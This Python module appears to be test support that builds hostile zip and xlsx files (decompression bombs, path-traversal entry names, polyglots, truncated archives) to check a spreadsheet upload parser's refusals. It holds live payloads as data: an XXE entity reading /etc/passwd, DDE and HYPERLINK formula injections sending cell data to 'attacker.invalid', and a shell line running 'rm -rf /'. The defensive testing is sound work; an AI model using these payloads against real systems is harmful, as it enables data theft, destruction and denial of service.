"""Zip files that lie: about sizes, about names, about where they end and what they are."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from typing import NamedTuple

import xlsxwriter

from tests.support.builders.examples import NOW, workbook
from tests.support.hostile.corpus import ARCHIVE, CORPUS, OTHER, WORKBOOK, HostileFile, Refused, lands, refused

MIB = 1024 * 1024
BOOK = workbook()
"""The benign one that the others are made from."""

PARTS = (b"[Content_Types].xml", b"xl/workbook.xml")
"""What makes a zip a workbook."""

_LOCAL = struct.Struct("<4s5H3I2H")
_CENTRAL = struct.Struct("<4s6H3I5H2I")
_END = struct.Struct("<4s4H2IH")
_HTML = b"<!DOCTYPE html><script>alert(1)</script>"


class Entry(NamedTuple):
    """One entry as its two headers tell it.

    Attributes:
        name: any bytes.
        content: as it is in the file.
        declared_bytes: what it claims to unpack to; None for the truth of a stored one.
        method: 0 stored, 8 deflated.
        at: where the directory says it is; None for where it is.
        flags: 1 encrypted, 0x800 a name in UTF-8.
    """

    name: bytes
    content: bytes = b""
    declared_bytes: int | None = None
    method: int = 0
    at: int | None = None
    flags: int = 0

    @property
    def _sizes(self) -> tuple[int, int, int]:
        declared = len(self.content) if self.declared_bytes is None else self.declared_bytes
        return zlib.crc32(self.content), len(self.content), declared

    @property
    def local(self) -> bytes:
        """Header and content."""
        head = _LOCAL.pack(b"PK\x03\x04", 20, self.flags, self.method, 0, 33, *self._sizes, len(self.name), 0)
        return head + self.name + self.content

    def central(self, at: int) -> bytes:
        """What the directory says, of an entry at that position."""
        place = at if self.at is None else self.at
        fields = (b"PK\x01\x02", 20, 20, self.flags, self.method, 0, 33, *self._sizes, len(self.name), 0, 0, 0, 0, 0)
        return _CENTRAL.pack(*fields, place) + self.name


def zip_of(
    entries: Iterable[Entry], *, comment: bytes = b"", begins_at: int = 0, ghosts: Iterable[Entry] = ()
) -> bytes:
    """A zip of these entries, and of ghosts: entries of the directory alone."""
    body, directory, count = bytearray(), bytearray(), 0
    for entry in entries:
        directory += entry.central(begins_at + len(body))
        body += entry.local
        count += 1
    for ghost in ghosts:
        directory += ghost.central(0)
        count += 1
    told = min(count, 0xFFFF)
    end = _END.pack(b"PK\x05\x06", 0, 0, told, told, len(directory), begins_at + len(body), len(comment))
    return bytes(body + directory + end + comment)


def parts_and(*entries: Entry) -> list[Entry]:
    """A workbook's parts, and these."""
    return [*map(Entry, PARTS), *entries]


def deflated(content: bytes) -> bytes:
    """As a zip's entry holds it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


# Bombs


@lands("xlsx")
def flat_bomb() -> bytes:
    """A thousand bytes for each of its own."""
    sheet = deflated(bytes(64 * MIB))
    return zip_of(parts_and(Entry(b"xl/worksheets/sheet1.xml", sheet, 64 * MIB, 8)))


@lands("xlsx")
def bomb_that_declares_four_gigabytes() -> bytes:
    return zip_of(parts_and(Entry(b"xl/sharedStrings.xml", deflated(bytes(MIB)), 0xFFFFFFFE, 8)))


@lands("xlsx")
def bomb_of_overlapping_entries() -> bytes:
    """Every entry of the directory is the same content: what is unpacked grows with the square of the size."""
    kernel = Entry(b"xl/workbook.xml", deflated(bytes(MIB)), MIB, 8)
    ghosts = [kernel._replace(name=b"%05d" % number, at=0) for number in range(4000)]
    return zip_of([kernel, Entry(PARTS[0])], ghosts=ghosts)


@lands("zip", ARCHIVE, WORKBOOK)
def nested_bomb() -> bytes:
    """Ten of ten of ten of ten: each level is small, all of them together are not."""
    content = zip_of([Entry(b"0.csv", deflated(bytes(MIB)), MIB, 8)])
    for _ in range(4):
        content = zip_of([Entry(b"%d.zip" % n, deflated(content), len(content), 8) for n in range(10)])
    return content


@lands("zip", ARCHIVE)
def zip_that_holds_itself() -> bytes:
    """One entry spans the whole file, directory and end record included."""
    entry = Entry(b"r.zip", b"")
    size = len(zip_of([entry]))
    return zip_of([Entry(b"r.zip", b"", size)])


@lands("xlsx")
def as_many_entries_as_are_looked_at() -> bytes:
    """The longest directory that still fits into what is kept, of the shortest entries that there are."""
    shortest = len(Entry(b"x").central(0))
    count = (256 * 1024 - _END.size - sum(len(Entry(part).central(0)) for part in PARTS)) // shortest
    return zip_of(parts_and(), ghosts=[Entry(b"%c" % (number % 256)) for number in range(count)])


@lands("xlsx")
@lands("zip", ARCHIVE)
def directory_too_long_to_be_kept() -> bytes:
    """Longer than what is kept of a stream, though not twice: how much is there depends on how it came."""
    return zip_of([Entry(b"%07d" % number) for number in range(300 * 1024 // 53)])


@lands("xlsx")
def directory_too_long_to_be_kept_and_garbled() -> bytes:
    content = directory_too_long_to_be_kept()
    at = content.rfind(b"PK\x01\x02")
    return content[:at] + b"XX" + content[at + 2 :]


@lands("zip", ARCHIVE)
@lands("xlsx")
def as_many_entries_as_an_end_record_counts() -> bytes:
    return zip_of([Entry(b"%d" % number) for number in range(0xFFFF)])


@lands("zip", ARCHIVE)
def more_entries_than_an_end_record_counts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(0x10000 + 10):
            archive.writestr(zipfile.ZipInfo(f"{number}.csv"), b"")
    return buffer.getvalue()


@lands("xlsx")
def billion_laughs() -> bytes:
    """Bombs of XML, and one that wants a file of the machine that reads it."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&l9;&f;</x>'
    return zip_of([Entry(name, xml.encode()) for name in PARTS])


@lands("xlsx")
def cells_that_are_formulas() -> bytes:
    """What a spreadsheet program would run, and what it would only show."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.set_properties({"created": NOW.replace(tzinfo=None)})
        sheet = book.add_worksheet()
        for row, cell in enumerate(FORMULAS):
            sheet.write_string(row, 0, cell)
            sheet.write_formula(row, 1, f"={cell.lstrip('=')}")
    return buffer.getvalue()


FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://attacker.invalid/?"&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=WEBSERVICE(A1)",
)


# Names


@lands("xlsx")
def names_that_leave_the_folder() -> bytes:
    names = (
        b"../../etc/passwd",
        b"/etc/passwd",
        b"..\\..\\autoexec.bat",
        b"C:\\x",
        b"~/x",
        b"a/../../b",
        b"",
        b".",
        b"..",
    )
    return zip_of(parts_and(*map(Entry, names)))


@lands("xlsx")
def names_with_nuls_and_controls() -> bytes:
    names = (b"a\x00b.xml", b"\x00", b"a\r\nSet-Cookie: x", b"\x1b[2J", "\u202excod.xlsx".encode(), b"xl/\x00")
    return zip_of(parts_and(*(Entry(name, flags=0x800) for name in names)))


@lands("xlsx")
def names_of_64_kib() -> bytes:
    return zip_of(parts_and(*(Entry(b"xl/" + b"%d" % n * 0xFFFC) for n in range(3))))


@lands("zip", ARCHIVE)
@lands("xlsx")
def names_of_64_kib_more_than_are_kept() -> bytes:
    return zip_of(parts_and(*(Entry(b"xl/" + b"%d" % n * 0xFFFC) for n in range(5))))


@lands("xlsx")
def names_twice() -> bytes:
    """Readers take the first or the last."""
    return zip_of([*parts_and(), *parts_and(Entry(PARTS[1], b"other"))])


@lands("zip", ARCHIVE, WORKBOOK)
def names_in_no_encoding() -> bytes:
    """A directory that Python does not understand is none that is broken."""
    return zip_of(parts_and(Entry(b"\xff\xfe\xff", flags=0x800)))


@lands("xlsx")
def encrypted_entries() -> bytes:
    return zip_of([Entry(name, b"\x00" * 12, flags=1) for name in PARTS])


# Polyglots


@refused("web page")
@refused("web page", ARCHIVE, OTHER)
def page_before_zip() -> bytes:
    return _HTML + BOOK


@refused("no workbook")
@lands("unknown", ARCHIVE, OTHER)
def picture_before_zip() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + BOOK


@refused("no workbook")
@lands("unknown", ARCHIVE, OTHER)
def program_before_zip() -> bytes:
    return b"#!/bin/sh\nexec rm -rf /\n" + BOOK


@refused("no workbook")
@lands("unknown", OTHER)
def document_before_zip() -> bytes:
    return b"%PDF-1.7\n" + BOOK


@refused("after its end", WORKBOOK, ARCHIVE)
def page_behind_zip() -> bytes:
    return BOOK + _HTML


@refused("after its end")
def newline_behind_zip() -> bytes:
    return BOOK + b"\n"


@refused("after its end")
def zeros_behind_zip() -> bytes:
    return BOOK + bytes(1000)


@lands("xlsx")
def page_in_the_comment() -> bytes:
    return zip_of(parts_and(), comment=_HTML)


@lands("xlsx")
def comment_as_long_as_can_be() -> bytes:
    return zip_of(parts_and(), comment=b"c" * 0xFFFF)


@refused("is not where it says")
def two_zips_in_a_row() -> bytes:
    return BOOK + BOOK


@lands("xlsx")
def two_zips_of_which_the_last_counts() -> bytes:
    """The directory is where it says: no reader of it sees the first one, whatever those see that need none."""
    first = zip_of([Entry(b"other.csv", b"a,b")])
    return first + zip_of(parts_and(), begins_at=len(first))


@refused("cut short|garbled|is not where")
def comment_that_is_an_end_record() -> bytes:
    return zip_of(parts_and(), comment=BOOK[-_END.size :])


@refused("cut short")
def comment_that_holds_an_end_record() -> bytes:
    return zip_of(parts_and(), comment=BOOK[-_END.size :] + b".")


@refused("is not where it says|cut short|garbled")
def two_end_records() -> bytes:
    return BOOK + BOOK[-_END.size :]


@refused("no workbook")
@lands("unknown", ARCHIVE)
def zip_of_nothing() -> bytes:
    return zip_of([])


# The magic alone, and what has another one


@refused("cut short", WORKBOOK, ARCHIVE, OTHER)
def magic_alone() -> bytes:
    return b"PK\x03\x04"


@refused("cut short", WORKBOOK, ARCHIVE)
def magic_and_noise() -> bytes:
    return b"PK\x03\x04" + b"".join(zlib.crc32(bytes([n % 256])).to_bytes(4, "big") for n in range(1000))


@refused("no workbook")
@lands("unknown", "records.xls")
def workbook_of_another_age() -> bytes:
    """An OLE2 container, which .xls is."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


@refused("no workbook")
@lands("unknown", "records.xlsx.gz", ARCHIVE)
def gzip_of_a_workbook() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(BOOK) + packer.flush()


@refused("no workbook")
@lands("unknown", "records.7z")
def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)


def _cuts() -> list[int]:
    """Around everything that begins or ends in the workbook, and between."""
    marks = [at for at in range(len(BOOK)) if BOOK[at : at + 4] in (b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06")]
    edges = {at + by for at in [*marks, len(BOOK)] for by in (-1, 0, 1, 4)} | set(range(2, len(BOOK), 997))
    return sorted(at for at in edges if 0 < at < len(BOOK))


def _cut_at(at: int) -> HostileFile:
    says = "cut short" if at >= len(b"PK\x03\x04") else "no workbook"
    return HostileFile("cut", WORKBOOK, Refused(says), lambda: BOOK[:at], f"-at-{at}")


CORPUS.extend(map(_cut_at, _cuts()))
